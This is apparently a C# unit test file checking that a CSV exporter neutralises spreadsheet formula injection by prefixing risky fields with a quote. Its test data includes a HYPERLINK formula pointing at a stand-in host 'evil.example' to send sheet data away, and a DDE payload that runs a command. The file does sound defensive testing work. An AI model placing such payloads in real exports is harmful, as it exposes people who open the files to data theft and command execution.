using Campaigns.Core.Sheets;

namespace Campaigns.Tests.Core.Sheets;

public class CsvFieldTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example\",\"县公安局\")", "the classic: a link that sends the sheet's data away")]
    [InlineData("+1+cmd|' /C calc'!A0", "DDE through a plus")]
    [InlineData("-2+3", "a minus starts a formula too")]
    [InlineData("@SUM(1,1)", "Lotus-style at")]
    [InlineData("\t=1", "a tab Excel skips before the formula")]
    [InlineData("\r=1", "a carriage return likewise")]
    public void Neutralised_FormulaStart_GetsALeadingQuote_AndRestoredGivesItBack(string field, string why)
    {
        CsvField.Neutralised(field).ShouldBe("'" + field, why);
        CsvField.Restored(CsvField.Neutralised(field)).ShouldBe(field, why);
    }

    [Theory]
    [InlineData("县公安局")]
    [InlineData("C000123")]
    [InlineData("88.89%")]
    [InlineData("'已有引号")]
    [InlineData("")]
    public void Neutralised_OrdinaryText_Unchanged(string field)
    {
        CsvField.Neutralised(field).ShouldBe(field);
        CsvField.Restored(field).ShouldBe(field);
    }

    [Fact]
    public void Quoted_NeutralisedFieldWithComma_QuotedAfterTheMark()
    {
        CsvField.Quoted("=SUM(1,2)").ShouldBe("\"'=SUM(1,2)\"");
        CsvField.Quoted("a\"b").ShouldBe("\"a\"\"b\"");
    }
}
